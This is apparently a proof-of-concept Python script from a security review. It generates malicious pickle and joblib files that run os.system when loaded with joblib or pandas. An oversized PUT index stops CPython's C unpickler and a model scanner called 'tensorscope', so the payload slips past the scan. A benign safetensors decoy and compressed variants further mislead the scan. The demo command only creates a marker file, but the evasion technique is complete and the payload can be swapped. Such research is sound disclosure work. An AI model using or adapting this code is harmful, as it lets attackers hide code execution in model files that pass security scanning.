# Protocol-0 pickles whose PUT index is past Py_ssize_t: the pure-Python unpickler (joblib.load,
# pandas.read_pickle's fallback) stores it in its memo dict and goes on; CPython's C unpickler and
# tensorscope's walker stop there. The file is all text, so a folder scan skips it.
import os
here = os.path.dirname(os.path.abspath(__file__))
os.makedirs(os.path.join(here, 'folder'), exist_ok=True)
def payload(tag):
    return b"cos\nsystem\n(Vtouch /tmp/review39b/pwned_%s\ntR." % tag.encode()
BIG = b"Np99999999999999999999\n0"
files = {
    # joblib.load (pickle._Unpickler subclass)
    'estimator': BIG + payload('putbig_joblib'),
    # pandas.read_pickle: C pickle.load raises AttributeError at `N}b` (BUILD {} on None),
    # pandas retries with its pickle._Unpickler subclass, which skips an empty state and goes on
    'frame': b"N}b0" + BIG + payload('putbig_pandas'),
}
for n, d in files.items():
    open(os.path.join(here, 'folder', n), 'wb').write(d)
    open(os.path.join(here, n + '.pkl'), 'wb').write(d)
# a benign checkpoint beside them, so the folder scan has something to call safe
import json, struct
hdr = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
hdr += b" " * (-len(hdr) % 8)
open(os.path.join(here, 'folder', 'model.safetensors'), 'wb').write(struct.pack('<Q', len(hdr)) + hdr + b"\0" * 8)
# compressed joblib variants (scanner: suspicious "cannot scan: unknown format" only)
import gzip, lzma
d = open(os.path.join(here, 'estimator.pkl'), 'rb').read().replace(b'putbig_joblib', b'putbig_gz')
open(os.path.join(here, 'c_gz.joblib'), 'wb').write(gzip.compress(d))
open(os.path.join(here, 'c_xz.joblib'), 'wb').write(lzma.compress(d))
